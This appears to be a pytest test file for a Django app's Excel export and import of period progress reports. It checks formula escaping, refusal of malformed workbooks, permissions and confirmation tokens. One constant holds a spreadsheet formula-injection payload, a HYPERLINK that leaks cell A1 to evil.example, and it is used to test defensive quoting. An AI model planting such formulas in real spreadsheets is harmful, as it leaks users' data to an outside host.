"""The Excel round trip of a unit's period sheet: build, read, refuse, preview, and the pages."""

import datetime as dt
import io
import time
import zipfile
from decimal import Decimal
from types import SimpleNamespace
from unittest.mock import patch
from urllib.parse import quote

import pytest
from django.contrib.messages import get_messages
from django.core import signing
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from core.spreadsheets import XLSX_CONTENT_TYPE, restore_cell, safe_cell, workbook_bytes
from plans.periods import Period
from progress import sheets
from progress.choices import ReportStatus
from progress.models import Report, ReportEvent
from progress.selectors import period_rows
from progress.services import RowInput, unit_period_save
from progress.sheets import (
    FIRST_ROW,
    HEADER_ROW,
    HEADERS,
    META_NAME,
    SHEET_NAME,
    SheetRejected,
    period_sheet_build,
    period_sheet_preview,
    period_sheet_read,
)
from targets.choices import Comparator
from tests.factories import MembershipFactory, PlanFactory, ReportFactory, TargetFactory, UnitFactory, UserFactory
from zones.choices import Role

TARGET, PREVIOUS = 5, 6
VALUE, PROGRESS, PROBLEMS, NEXT_STEPS, NOTE, CONFIRM = 7, 8, 9, 10, 11, 12  # 1-based columns of the sheet
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def build(desk, *, unit=None, period=None, plan=None) -> bytes:
    plan, unit, period = plan or desk.plan, unit or desk.unit, period or desk.period
    return period_sheet_build(
        plan=plan, unit=unit, period=period, rows=period_rows(plan=plan, unit=unit, period=period)
    )


def read(desk, data: bytes) -> list[RowInput]:
    return period_sheet_read(data=data, plan=desk.plan, unit=desk.unit, period=desk.period)


def edit(data: bytes, cells: dict[tuple[int, int], object], *, sheet: str = SHEET_NAME) -> bytes:
    """The workbook with some cells typed over, as a user's spreadsheet program would save it."""
    workbook = load_workbook(io.BytesIO(data))
    for (row, column), value in cells.items():
        workbook[sheet].cell(row=row, column=column, value=value)
    return workbook_bytes(workbook)


def row_of(index: int) -> int:
    return FIRST_ROW + index


@pytest.fixture(autouse=True)
def english():
    """Functions called outside a request speak English here; pages speak the
    default language (Chinese), which LocaleMiddleware switches to per request."""
    with translation.override("en"):
        yield


# --- safe cells ----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-2", "@SUM(A1:A2)", "\t=1", "\r=1", INJECTION),
        # Full-width forms (typed by Chinese input methods), alone or after white space.
        *("＝1+1", "＋1", "－2", "＠SUM(A1:A2)", "\t＝1", "\r＋1", " =1", " ＝1", "\u3000＝1", "\n@A1"),
    ],
)
def test_safe_cell_quotes_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [("\x00=1+1", "'=1+1"), ("完成\x0b投资\x01", "完成\n投资"), ("\x0b＝1", "'\n＝1"), ("a\ud800\ufffeb", "ab")],
)
def test_safe_cell_drops_what_xml_cannot_carry_before_guarding_formulas(text, cell):
    assert safe_cell(text) == cell


@pytest.mark.parametrize(
    "value", [12, 3.5, Decimal("1.25"), -7, None, "完成投资32.5亿元", "'quoted", "a=b", "a＝b", "全角＋号"]
)
def test_safe_cell_leaves_numbers_and_plain_text_alone(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert restore_cell(value) == value


# --- building ------------------------------------------------------------------


def test_the_sheet_shows_each_target_with_target_and_last_values(desk):
    ReportFactory(
        target=desk.amount,
        year=2026,
        month=2,
        value=Decimal("20.5"),
        status=ReportStatus.APPROVED,
        submitted_at=dt.datetime(2026, 3, 3, tzinfo=dt.UTC),
        approved_at=dt.datetime(2026, 3, 4, tzinfo=dt.UTC),
    )
    ReportFactory(target=desk.count, year=2026, month=3, value=Decimal(4), progress="开工4个")

    workbook = load_workbook(io.BytesIO(build(desk)))

    assert workbook.sheetnames == [SHEET_NAME, META_NAME]
    sheet = workbook[SHEET_NAME]
    title = sheet.cell(row=1, column=1).value
    for part in (str(desk.plan.zone), desk.unit.name, desk.plan.title):
        assert part in title
    assert tuple(cell.value for cell in sheet[HEADER_ROW]) == HEADERS
    lines = [[cell.value for cell in sheet[row_of(i)]] for i in range(3)]
    assert [line[:7] for line in lines] == [
        [1, str(desk.task), "固定资产投资", "亿元", 130, 20.5, None],
        [2, str(desk.task), "规上工业增加值增速", "%", 15, None, None],
        [3, str(desk.task), "新开工项目", "个", 18, None, "4"],  # the figure to fill is text, as typed
    ]
    assert lines[2][PROGRESS - 1] == "开工4个"
    assert sheet.max_row == row_of(2)
    assert sheet.protection.sheet
    assert sheet.cell(row=row_of(0), column=3).protection.locked
    assert sheet.cell(row=row_of(0), column=3).fill.fgColor.rgb.endswith("EDEFF2")  # read-only is grey
    assert not sheet.cell(row=row_of(0), column=VALUE).protection.locked
    assert sheet.freeze_panes == f"D{FIRST_ROW}"
    meta = workbook[META_NAME]
    assert meta.sheet_state == "hidden"
    values = [tuple(row) for row in meta.iter_rows(values_only=True)]
    assert values[:6] == [
        ("layout", sheets.LAYOUT_VERSION),
        ("plan", desk.plan.pk),
        ("unit", desk.unit.pk),
        ("unit_name", desk.unit.name),
        ("year", 2026),
        ("month", 3),
    ]
    assert values[7:] == [(desk.amount.pk, None), (desk.growth.pk, None), (desk.count.pk, 1)]


def test_submitted_rows_are_locked_in_the_sheet(desk):
    ReportFactory(
        target=desk.growth,
        year=2026,
        month=3,
        value=Decimal(14),
        status=ReportStatus.SUBMITTED,
        submitted_at=dt.datetime(2026, 4, 1, tzinfo=dt.UTC),
    )

    sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]

    assert sheet.cell(row=row_of(1), column=VALUE).protection.locked
    assert not sheet.cell(row=row_of(0), column=VALUE).protection.locked


def test_formula_text_is_exported_as_text_not_as_a_formula(desk):
    ReportFactory(
        target=desk.amount,
        year=2026,
        month=3,
        value=None,
        progress=INJECTION,
        problems="-3个项目延期",
        next_steps="@all 加快进度",
    )

    data = build(desk)

    sheet = load_workbook(io.BytesIO(data))[SHEET_NAME]
    for column, text in ((PROGRESS, INJECTION), (PROBLEMS, "-3个项目延期"), (NEXT_STEPS, "@all 加快进度")):
        cell = sheet.cell(row=row_of(0), column=column)
        assert cell.data_type == "s"
        assert cell.value == "'" + text
    raw_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw_xml  # no cell of the sheet holds a formula
    # and the texts come back as they were, so an untouched row stays unchanged
    assert read(desk, data)[0].progress == INJECTION


def test_a_range_a_stretch_value_or_a_ceiling_stays_text_in_the_target_column(desk):
    desk.growth.stretch = Decimal(15)
    desk.growth.value = Decimal(10)
    desk.growth.save()
    desk.count.value, desk.count.value_high, desk.count.comparator = Decimal(10), Decimal(15), Comparator.RANGE
    desk.count.save()
    with translation.override("zh-hans"):
        sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]

    target = [sheet.cell(row=row_of(i), column=TARGET).value for i in range(3)]
    assert target == [130, "10%（力争15%）", "10–15个"]
    assert sheet.cell(row=row_of(1), column=TARGET).data_type == "s"


def test_every_number_shows_every_digit(desk):
    desk.amount.value = Decimal("99999999999.9999")
    desk.amount.save()
    desk.count.value = Decimal(98765432109)
    desk.count.save()
    ReportFactory(
        target=desk.count,
        year=2026,
        month=2,
        value=Decimal("12345678901"),
        status=ReportStatus.APPROVED,
        submitted_at=dt.datetime(2026, 3, 3, tzinfo=dt.UTC),
        approved_at=dt.datetime(2026, 3, 4, tzinfo=dt.UTC),
    )
    ReportFactory(target=desk.amount, year=2026, month=3, value=Decimal("12345678901.25"))

    sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]

    amount_target = sheet.cell(row=row_of(0), column=TARGET)
    assert (amount_target.value, amount_target.number_format) == (99999999999.9999, "0.0000")
    count_target = sheet.cell(row=row_of(2), column=TARGET)
    assert (count_target.value, count_target.number_format) == (98765432109, "0")  # not 9.87654E+10
    previous = sheet.cell(row=row_of(2), column=PREVIOUS)
    assert (previous.value, previous.number_format) == (12345678901, "0")
    # the figure to fill is text, in a text cell: a long figure typed there stays as typed
    value = sheet.cell(row=row_of(0), column=VALUE)
    assert (value.value, value.data_type, value.number_format) == ("12345678901.25", "s", "@")
    assert sheet.cell(row=row_of(1), column=VALUE).number_format == "@"
    assert read(desk, build(desk))[0].raw_value == "12345678901.25"


def test_the_sheet_prints_landscape_one_page_wide_with_the_header_on_every_page(desk):
    with translation.override("zh-hans"):
        sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]

    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", int(sheet.PAPERSIZE_A4))
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert sheet.oddFooter.center.text == "第 &P 页，共 &N 页"


def test_a_confirmation_given_on_the_page_is_ticked_in_the_sheet(desk):
    result = unit_period_save(
        plan=desk.plan,
        unit=desk.unit,
        period=desk.period,
        rows=[RowInput(desk.count.pk, "40", confirmed=True)],
        by=desk.staff,
        today=desk.today,
    )
    assert result.ok

    data = build(desk)
    sheet = load_workbook(io.BytesIO(data))[SHEET_NAME]

    assert [sheet.cell(row=row_of(i), column=CONFIRM).value for i in range(3)] == [None, None, "是"]
    # and the row comes back confirmed: a text changed beside it needs no new tick
    rows = read(desk, edit(data, {(row_of(2), PROGRESS): "新开工40个"}))
    assert rows[2].confirmed
    result = preview(desk, rows)
    assert result.can_confirm and result.rows[2].changed_texts == ["Progress"]


def test_a_confirmation_ticked_in_the_sheet_confirms_the_saved_figure(desk):
    report = ReportFactory(target=desk.count, year=2026, month=3, value=Decimal(40), version=2)

    rows = read(desk, edit(build(desk), {(row_of(2), CONFIRM): "是"}))
    result = preview(desk, rows)

    assert result.rows[2].changed_texts == ["Value confirmed"]
    assert [row.target_id for row in result.to_save] == [desk.count.pk]
    unit_period_save(
        plan=desk.plan, unit=desk.unit, period=desk.period, rows=result.to_save, by=desk.staff, today=desk.today
    )
    report.refresh_from_db()
    assert report.value_confirmed and report.value == 40


# --- reading -------------------------------------------------------------------


def test_an_untouched_sheet_reads_back_as_the_saved_rows(desk):
    ReportFactory(target=desk.count, year=2026, month=3, value=Decimal("4.25"), progress="开工4个", version=3)

    rows = read(desk, build(desk))

    assert [row.target_id for row in rows] == [desk.amount.pk, desk.growth.pk, desk.count.pk]
    assert rows[2] == RowInput(desk.count.pk, "4.25", progress="开工4个", version=3)
    assert rows[0] == RowInput(desk.amount.pk)


def test_filled_cells_come_back_as_typed_rows(desk):
    data = edit(
        build(desk),
        {
            (row_of(0), VALUE): 32.5,
            (row_of(0), PROGRESS): "完成投资32.5亿元",
            (row_of(0), PROBLEMS): "土地指标紧张 ",
            (row_of(0), NEXT_STEPS): "加快征迁",
            (row_of(0), CONFIRM): "是",
            (row_of(1), VALUE): "十四点二",
            (row_of(2), VALUE): "1.2万",
            (row_of(2), NOTE): "统计口径调整",
            (row_of(2), CONFIRM): "否",
        },
    )

    rows = read(desk, data)

    assert rows[0] == RowInput(
        desk.amount.pk,
        "32.5",
        progress="完成投资32.5亿元",
        problems="土地指标紧张",
        next_steps="加快征迁",
        confirmed=True,
    )
    assert rows[1].raw_value == "十四点二"
    assert (rows[2].raw_value, rows[2].value_note, rows[2].confirmed) == ("1.2万", "统计口径调整", False)


def test_large_numbers_come_back_in_plain_notation(desk):
    rows = read(desk, edit(build(desk), {(row_of(0), VALUE): 1e16}))
    assert rows[0].raw_value == "10000000000000000"


def rejected(desk, data: bytes) -> str:
    with pytest.raises(SheetRejected) as caught:
        read(desk, data)
    return caught.value.message


def png_bytes() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def zip_of_text() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"name,value\n=1+1,2\n", "not an Excel workbook"),
        (png_bytes(), "not an Excel workbook"),
        (zip_of_text(), "not an Excel workbook"),
        (b"x" * (2 * 1024 * 1024 + 1), "larger than 2 MB"),
    ],
    ids=["empty", "csv", "image", "other-zip", "too-large"],
)
def test_a_file_that_is_not_a_small_xlsx_is_refused(desk, data, reason):
    assert reason in rejected(desk, data)


def test_a_damaged_workbook_is_refused(desk):
    data = build(desk)
    assert "not an Excel workbook" in rejected(desk, data[: len(data) // 2])


def test_a_workbook_that_unpacks_far_beyond_its_size_is_refused(desk, monkeypatch):
    monkeypatch.setattr(sheets, "MAX_UNPACKED_BYTES", 1000)
    assert "too large once unpacked" in rejected(desk, build(desk))


def test_a_workbook_of_another_origin_is_refused(desk):
    workbook = Workbook()
    workbook.active.title = SHEET_NAME
    assert "not a period sheet downloaded from Taizhang" in rejected(desk, workbook_bytes(workbook))


def test_a_sheet_without_its_meta_is_refused(desk):
    workbook = load_workbook(io.BytesIO(build(desk)))
    del workbook[META_NAME]
    assert "not a period sheet downloaded from Taizhang" in rejected(desk, workbook_bytes(workbook))


def test_a_sheet_of_an_older_layout_is_refused(desk):
    data = edit(build(desk), {(1, 2): "taizhang/period-sheet/0"}, sheet=META_NAME)
    assert "its layout was changed" in rejected(desk, data)


def test_a_target_id_in_the_meta_is_read_only_in_ascii_digits(desk):
    arabic_indic = str(desk.amount.pk).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))  # int() reads these
    data = edit(build(desk), {(8, 1): arabic_indic}, sheet=META_NAME)
    assert "not a period sheet downloaded from Taizhang" in rejected(desk, data)


def test_another_units_sheet_is_refused_naming_that_unit(desk):
    message = rejected(desk, build(desk, unit=desk.other_unit))
    assert "another unit (财政局)" in message and desk.unit.name in message


def test_another_periods_sheet_is_refused_naming_both_periods(desk):
    message = rejected(desk, build(desk, period=Period(2026, 2)))
    assert "2026, months 1–2" in message and "2026, months 1–3" in message


def test_another_plans_sheet_is_refused(desk):
    other_plan = PlanFactory(zone=desk.plan.zone, start_year=2026, end_year=2026)
    assert "another plan" in rejected(desk, build(desk, plan=other_plan))


def test_a_changed_heading_is_refused_naming_the_column(desk):
    message = rejected(desk, edit(build(desk), {(HEADER_ROW, VALUE): "本月数"}))
    assert "column G" in message and "本期累计" in message and "本月数" in message


def test_an_added_column_is_refused(desk):
    assert "Columns were added" in rejected(desk, edit(build(desk), {(HEADER_ROW, 13): "备注"}))


def test_sorted_rows_are_refused(desk):
    workbook = load_workbook(io.BytesIO(build(desk)))
    sheet = workbook[SHEET_NAME]
    first = [cell.value for cell in sheet[row_of(0)]]
    second = [cell.value for cell in sheet[row_of(1)]]
    for column, (a, b) in enumerate(zip(first, second, strict=True), start=1):
        sheet.cell(row=row_of(0), column=column, value=b)
        sheet.cell(row=row_of(1), column=column, value=a)
    assert f"Row {row_of(0)} no longer matches" in rejected(desk, workbook_bytes(workbook))


def test_an_added_row_is_refused(desk):
    data = edit(build(desk), {(row_of(3), 1): 4, (row_of(3), 3): "新增指标", (row_of(3), VALUE): 9})
    assert "4 target rows where 3 were downloaded" in rejected(desk, data)


def test_a_deleted_row_is_refused(desk):
    workbook = load_workbook(io.BytesIO(build(desk)))
    workbook[SHEET_NAME].delete_rows(row_of(2))
    assert "2 target rows where 3 were downloaded" in rejected(desk, workbook_bytes(workbook))


def test_a_sheet_is_refused_once_the_units_targets_changed(desk):
    data = build(desk)
    TargetFactory(task=desk.task, indicator="新增规上企业", unit="家", value=Decimal(10), order=9)
    assert "targets for this period changed" in rejected(desk, data)


def test_a_confirmation_other_than_yes_or_no_is_refused(desk):
    message = rejected(desk, edit(build(desk), {(row_of(1), CONFIRM): "也许"}))
    assert f"Row {row_of(1)}" in message and "也许" in message


# --- preview -------------------------------------------------------------------


def preview(desk, rows, **kwargs):
    return period_sheet_preview(
        plan=desk.plan, unit=desk.unit, period=desk.period, rows=rows, by=desk.staff, today=desk.today, **kwargs
    )


def test_the_preview_runs_the_save_but_keeps_nothing(desk):
    ReportFactory(target=desk.count, year=2026, month=3, value=Decimal(4), progress="开工4个")
    rows = read(desk, edit(build(desk), {(row_of(0), VALUE): "32.5", (row_of(0), PROGRESS): "完成投资"}))

    result = preview(desk, rows)

    assert result.can_confirm and not result.has_errors
    assert [row.target_id for row in result.to_save] == [desk.amount.pk]  # untouched rows are left out
    first = result.rows[0]
    assert (first.old_text, first.new_text, first.value_changed) == ("", "32.5", True)
    assert first.changed_texts == ["Progress"]
    assert not result.rows[2].changed
    assert Report.objects.filter(target=desk.amount).count() == 0
    assert ReportEvent.objects.count() == 0


def test_the_preview_reports_each_refused_figure(desk):
    rows = read(
        desk,
        edit(build(desk), {(row_of(0), VALUE): "三十亿美元", (row_of(2), VALUE): 40}),
    )

    result = preview(desk, rows)

    assert not result.can_confirm
    assert result.rows[0].errors[0][0] == "This period's year-to-date figure"
    assert "does not convert" in result.rows[0].errors[0][1]
    assert result.rows[2].errors[0][0] == "Value confirmed"
    assert "more than twice the annual target" in result.rows[2].errors[0][1]
    assert result.rows[2].new_text == "40"
    assert Report.objects.count() == 0


@pytest.mark.parametrize(
    ("row", "cell", "words"),
    [
        (2, "1,5", "thousands separator"),  # saved as 15 before
        (2, "1²", "not a number"),  # saved as 12 before
        (1, "3.2亿", "does not apply to a figure in %"),  # saved as 320000000 before
        (0, 1234567890123.4567, "at most 11 digits before the point"),  # saved rounded before
        (0, "1元", "more than 4 decimal places"),  # saved as 0 before
        (2, 0.000001, "at most 4 decimal places"),
        (2, 1e16, "at most 11 digits before the point"),
        (2, "9999999999999999.9999", "at most 11 digits before the point"),  # broke the pages before
    ],
)
def test_a_sheet_figure_that_would_change_on_the_way_in_is_refused(desk, row, cell, words):
    rows = read(desk, edit(build(desk), {(row_of(row), VALUE): cell, (row_of(row), CONFIRM): "是"}))

    result = preview(desk, rows)

    assert not result.can_confirm
    assert words in result.rows[row].errors[0][1]
    assert Report.objects.count() == 0


def test_the_largest_figure_in_a_number_cell_is_kept_exactly(desk):
    rows = read(desk, edit(build(desk), {(row_of(0), VALUE): 99999999999.9999, (row_of(0), CONFIRM): "是"}))
    result = preview(desk, rows)
    assert result.can_confirm and result.rows[0].new_value == Decimal("99999999999.9999")


def test_the_preview_counts_the_rows_with_errors_and_names_their_sheet_rows(desk):
    rows = read(
        desk, edit(build(desk), {(row_of(0), VALUE): "很多", (row_of(1), VALUE): "14.2", (row_of(2), VALUE): 10.5})
    )

    result = preview(desk, rows)

    assert result.error_count == 2 and result.has_errors and not result.can_confirm
    assert [(row.sheet_row, bool(row.errors)) for row in result.rows] == [
        (row_of(0), True),
        (row_of(1), False),
        (row_of(2), True),
    ]


def test_a_confirmation_in_the_sheet_lets_an_unusual_figure_through(desk):
    rows = read(desk, edit(build(desk), {(row_of(2), VALUE): 40, (row_of(2), CONFIRM): "是"}))
    assert preview(desk, rows).can_confirm


def test_an_unchanged_sheet_has_nothing_to_confirm(desk):
    result = preview(desk, read(desk, build(desk)))
    assert not result.to_save and not result.can_confirm and result.changed_count == 0


# --- pages ---------------------------------------------------------------------


def url(desk, name, *, unit=None, period="2026-03"):
    return reverse(
        f"progress:{name}", kwargs={"plan_id": desk.plan.pk, "unit_id": (unit or desk.unit).pk, "period": period}
    )


@pytest.fixture
def today(desk):
    with patch("core.clock.today", return_value=desk.today):
        yield desk.today


def upload(client, desk, data: bytes, *, name="填报.xlsx"):
    return client.post(url(desk, "sheet_upload"), {"file": SimpleUploadedFile(name, data)})


def test_staff_download_the_sheet_under_a_chinese_file_name(client, desk, today):
    client.force_login(desk.staff)

    response = client.get(url(desk, "sheet_download"))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="period-sheet-2026-03.xlsx"')
    assert f"filename*=UTF-8''{quote('填报_经济发展局_2026-03.xlsx')}" in disposition
    assert read(desk, response.content)[0].target_id == desk.amount.pk


def test_the_reviewer_may_download_but_not_upload(client, desk, today):
    client.force_login(desk.reviewer)
    assert client.get(url(desk, "sheet_download")).status_code == 200
    assert client.get(url(desk, "sheet_upload")).status_code == 403
    assert upload(client, desk, build(desk)).status_code == 403


def test_another_units_staff_are_forbidden(client, desk, today):
    client.force_login(desk.other_staff)
    assert client.get(url(desk, "sheet_download")).status_code == 403
    assert client.get(url(desk, "sheet_upload")).status_code == 403
    assert client.post(url(desk, "sheet_confirm"), {"rows": "x"}).status_code == 403


def test_anonymous_users_are_sent_to_log_in(client, desk):
    response = client.get(url(desk, "sheet_download"))
    assert response.status_code == 302 and reverse("login") in response["Location"]


def test_a_malformed_period_or_a_unit_of_another_zone_is_not_found(client, desk, today):
    client.force_login(desk.staff)
    assert client.get(url(desk, "sheet_download", period="2026-13")).status_code == 404
    assert client.get(url(desk, "sheet_download", period="2031-03")).status_code == 404
    assert client.get(url(desk, "sheet_download", unit=UnitFactory())).status_code == 404


def test_the_upload_page_links_the_download(client, desk, today):
    client.force_login(desk.staff)
    response = client.get(url(desk, "sheet_upload"))
    assert response.status_code == 200
    assert url(desk, "sheet_download") in response.content.decode()


def test_upload_preview_then_confirm_saves_drafts_with_their_history(client, desk, today):
    client.force_login(desk.staff)
    sheet = client.get(url(desk, "sheet_download")).content
    filled = edit(
        sheet,
        {(row_of(0), VALUE): 32.5, (row_of(0), PROGRESS): "完成投资32.5亿元", (row_of(1), VALUE): "14.2"},
    )

    response = upload(client, desk, filled)

    assert response.status_code == 200
    page = response.content.decode()
    assert "32.5" in page and "14.2" in page
    assert response.context["preview"].changed_count == 2
    assert Report.objects.count() == 0 and ReportEvent.objects.count() == 0  # nothing before confirming

    response = client.post(url(desk, "sheet_confirm"), {"rows": response.context["token"]})

    assert response.status_code == 302
    assert response["Location"] == url(desk, "period")
    amount = Report.objects.get(target=desk.amount, year=2026, month=3)
    growth = Report.objects.get(target=desk.growth, year=2026, month=3)
    assert (amount.value, amount.progress, amount.status) == (Decimal("32.5"), "完成投资32.5亿元", ReportStatus.DRAFT)
    assert (growth.value, growth.status) == (Decimal("14.2"), ReportStatus.DRAFT)
    assert not Report.objects.filter(target=desk.count).exists()
    events = ReportEvent.objects.filter(report__in=[amount, growth])
    assert {(event.action, event.by) for event in events} == {("imported", desk.staff)}
    assert events.get(report=amount).changes["value"] == [None, "32.5"]
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "表格中的数值已保存为草稿（2行）。请核对后再提交。"
    ]


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda desk: b"", "文件为空"),
        (lambda desk: png_bytes(), "不是Excel工作簿"),
        (lambda desk: b"%PDF-1.4 not a sheet", "不是Excel工作簿"),
        (lambda desk: build(desk, unit=desk.other_unit), "属于其他单位（财政局）"),
        (lambda desk: build(desk, period=Period(2026, 2)), "2026年1-2月"),
        (lambda desk: edit(build(desk), {(HEADER_ROW, 2): "工作任务"}), "列标题被修改"),
    ],
    ids=["empty", "image", "pdf", "other-unit", "other-period", "changed-header"],
)
def test_a_refused_upload_says_why_and_changes_nothing(client, desk, today, make, reason):
    client.force_login(desk.staff)

    response = upload(client, desk, make(desk))

    assert response.status_code == 400
    assert reason in response.content.decode()
    assert "preview" not in response.context
    assert Report.objects.count() == 0 and ReportEvent.objects.count() == 0


def test_a_sheet_with_errors_cannot_be_confirmed(client, desk, today):
    client.force_login(desk.staff)

    response = upload(client, desk, edit(build(desk), {(row_of(0), VALUE): "很多"}))

    assert response.status_code == 200
    assert response.context["token"] == ""
    assert "不是数字" in response.content.decode()
    assert url(desk, "sheet_confirm") not in response.content.decode()


def test_the_preview_page_marks_and_counts_the_rows_with_errors(client, desk, today):
    client.force_login(desk.staff)
    sheet = edit(
        build(desk),
        {(row_of(0), VALUE): "很多", (row_of(1), VALUE): "三十亿美元", (row_of(2), VALUE): 10.5},
    )

    response = upload(client, desk, sheet)

    page = response.content.decode()
    assert response.status_code == 200
    assert "3行有误，未导入。" in page
    assert "有误的行：3。" in page
    for index in range(3):
        assert f'data-error-row="{row_of(index)}"' in page
    assert "10.5个：以“个”计的数只能是整数，请填写整数。" in page  # the reason beside its row
    assert url(desk, "sheet_confirm") not in page


def test_a_closed_period_refuses_the_upload(client, desk, settings):
    client.force_login(desk.staff)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    closed = "The deadline of this period has passed. To report it late, send a late-report request"
    with patch("core.clock.today", return_value=dt.date(2026, 5, 1)):
        assert closed in client.get(url(desk, "sheet_upload")).content.decode()
        response = upload(client, desk, edit(build(desk), {(row_of(0), VALUE): 30}))
    assert response.status_code == 400
    assert closed in response.content.decode()
    assert Report.objects.count() == 0


def test_a_change_made_after_the_preview_is_shown_as_a_conflict(client, desk, today):
    client.force_login(desk.staff)
    token = upload(client, desk, edit(build(desk), {(row_of(0), VALUE): 30})).context["token"]
    colleague = MembershipFactory(unit=desk.unit, role=Role.STAFF, user=UserFactory(username="colleague")).user
    unit_period_save(
        plan=desk.plan,
        unit=desk.unit,
        period=desk.period,
        rows=[RowInput(desk.amount.pk, "31")],
        by=colleague,
        today=desk.today,
    )

    response = client.post(url(desk, "sheet_confirm"), {"rows": token})

    assert response.status_code == 409
    assert response.context["preview"].conflicts[0].target_id == desk.amount.pk
    assert "colleague" in response.content.decode()
    # the figure as the pages write it, in its unit (written_for), not 31.0000
    assert '<td class="num">31亿元</td>' in response.content.decode()
    assert Report.objects.get(target=desk.amount).value == Decimal(31)


def test_a_tampered_or_borrowed_confirmation_is_refused(client, desk, today):
    client.force_login(desk.staff)
    token = upload(client, desk, edit(build(desk), {(row_of(0), VALUE): 30})).context["token"]

    response = client.post(url(desk, "sheet_confirm"), {"rows": token[:-2] + "xx"})
    assert response.status_code == 302 and response["Location"] == url(desk, "sheet_upload")
    assert "无法读取" in str(next(iter(get_messages(response.wsgi_request))))

    colleague = MembershipFactory(unit=desk.unit, role=Role.STAFF, user=UserFactory(username="colleague")).user
    client.force_login(colleague)
    response = client.post(url(desk, "sheet_confirm"), {"rows": token})
    assert response.status_code == 302 and response["Location"] == url(desk, "sheet_upload")
    assert Report.objects.count() == 0


def test_an_expired_confirmation_is_refused(client, desk, today):
    client.force_login(desk.staff)
    token = upload(client, desk, edit(build(desk), {(row_of(0), VALUE): 30})).context["token"]

    two_hours_later = SimpleNamespace(time=lambda: time.time() + 2 * 3600)
    with patch.object(signing, "time", two_hours_later):
        response = client.post(url(desk, "sheet_confirm"), {"rows": token})

    assert response.status_code == 302
    assert "超过一小时" in str(next(iter(get_messages(response.wsgi_request))))
    assert Report.objects.count() == 0
